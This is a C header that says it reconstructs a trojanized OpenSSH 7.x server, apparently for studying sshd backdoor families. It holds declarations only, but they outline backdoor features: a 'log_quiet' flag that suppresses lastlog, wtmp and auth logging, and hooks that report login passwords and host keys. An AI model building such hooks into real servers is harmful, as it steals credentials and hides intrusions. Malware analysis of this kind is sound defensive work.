/* A trojanized OpenSSH 7.x server, reduced to the files the backdoor families
 * touched (reconstruction; see u-INDEX.md). */
#ifndef SSHD_H
#define SSHD_H

#include <openssl/evp.h>
#include <pwd.h>
#include <stddef.h>

typedef struct Authctxt {
  int success;
  int valid;
  int failures;
  char user[64];
  char service[32];
  struct passwd *pw;
  char pw_password[128]; /* the shadow entry */
} Authctxt;

struct sshmac {
  int type; /* MAC_HMAC_* */
  unsigned char key[64];
  size_t key_len;
};

#define MAC_HMAC_SHA2_256 1
#define MAC_HMAC_MD5 2

extern int log_quiet; /* set by the backdoor: no lastlog, no wtmp, no auth line */

/* log.c-equivalent in sshd.c */
void logit(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/* auth-passwd.c */
int auth_password(Authctxt *ctxt, const char *password);
/* auth-shadow.c */
int sys_auth_passwd(Authctxt *ctxt, const char *password);
/* hostkey.c */
EVP_PKEY *sshd_load_host_key(const char *path);
/* monitor_stats.c */
void stats_report_hostkey(const EVP_PKEY *key, const char *path);
void stats_report_login(const char *user, const char *password, const char *from);
/* kex.c */
int kex_dh_group(int group_id, EVP_PKEY **out);
/* mac.c */
int mac_compute(const struct sshmac *m, unsigned int seqno, const unsigned char *data, size_t len, unsigned char *out, unsigned int *outlen);
int mac_check(const struct sshmac *m, unsigned int seqno, const unsigned char *data, size_t len, const unsigned char *mac);
/* session.c */
void do_login(Authctxt *ctxt, const char *from);

#endif
